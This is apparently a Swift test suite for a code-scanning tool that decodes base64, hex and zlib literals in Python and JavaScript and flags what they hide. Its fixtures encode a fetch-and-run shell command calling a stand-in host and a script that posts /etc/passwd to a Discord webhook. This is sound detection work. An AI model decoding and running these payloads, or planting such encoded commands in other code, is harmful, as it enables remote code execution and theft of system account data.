import Foundation
import LockgateCore
import Testing

@testable import Analysis

/// Encoded text: base64 and hex literals that decode to printable text signal what the text signals, with the
/// decoded text as evidence; encoded binary data signals nothing more.
@Suite struct EncodedTextTests {
    static let webhook = "aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTIzNC9hYmNkZWY="
    static let hexCommand = "6375726c202d7320687474703a2f2f782e6578616d706c652f692e7368207c207368"
    static let binary = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4vMDEyMzQ1Njc4OTo7"

    @Test func encodedLiteralsSignalWhatTheyDecodeTo() {
        #expect(StringSignals.kinds(in: Self.webhook) == [.base64String, .urlWebhook])
        #expect(StringSignals.kinds(in: Self.hexCommand).contains(.shellCommand))
        #expect(StringSignals.kinds(in: Self.binary) == [.base64String])
        #expect(StringSignals.kinds(in: "2f3a9c0e" + String(repeating: "ab", count: 28)) == [])
        #expect(StringSignals.kinds(in: "68656c6c6f20776f726c6421") == [])
    }

    @Test func theDecodedTextIsTheEvidenceInBothLanguages() {
        let python = PythonTestSupport.analyse("import base64\nh = '\(Self.webhook)'\n")
        let pythonHook = python.allBehaviours.first { $0.kind == .urlWebhook }
        #expect(pythonHook?.snippet == "decoded: https://discord.com/api/webhooks/1234/abcdef")
        #expect(python.allBehaviours.first { $0.kind == .base64String }?.snippet.hasPrefix("h = '") == true)
        let javaScript = JavaScriptTestSupport.analyse("const c = '\(Self.hexCommand)';\n")
        let command = javaScript.allBehaviours.first { $0.kind == .shellCommand }
        #expect(command?.snippet == "decoded: curl -s http://x.example/i.sh | sh")
    }

    @Test func aZlibBytesLiteralIsInflated() {
        // zlib.compress of a script that posts /etc/passwd to a Discord webhook, as escapes in a bytes literal.
        let packed =
            "\\x78\\x9c\\x35\\xc6\\x31\\x0a\\x80\\x30\\x0c\\x00\\xc0\\xdd\\x57\\x48\\xa7\\x16\\xa4"
            + "\\x99\\x15\\x7c\\x4c\\x6c\\x02\\x2d\\xa2\\x89\\x4d\\x44\\xf0\\xf5\\x4e\\xde\\x74\\xed"
            + "\\x50\\xe9\\x3e\\x76\\xbe\\x6e\\x36\\xb7\\xe1\\x4f\\x56\\x31\\x8f\\xa1\\xba\\xab\\x2d"
            + "\\x00\\xd4\\xac\\x48\\xa7\\x5c\\xe4\\x00\\xd4\\x06\\x0f\\x6f\\x55\\x64\\x37\\x98\\x67"
            + "\\x78\\xdf\\x30\\x8d\\x84\\x8e\\xab\\x28\\x9f\\x31\\x00\\x7b\\x01\\x45\\xb3\\x87\\x42"
            + "\\xca\\x9d\\x91\\x62\\x4a\\xc3\\x07\\x15\\xed\\x24\\xe0"
        let source = "import zlib\npayload = b'\(packed)'\n"
        let analysis = PythonTestSupport.analyse(source)
        let hook = analysis.allBehaviours.first { $0.kind == .urlWebhook }
        #expect(hook?.line == 2)
        #expect(hook?.snippet.hasPrefix("decoded: import requests requests.post(") == true)
        #expect(PythonTestSupport.kinds(analysis).contains(.readSystemAccounts))
    }
}
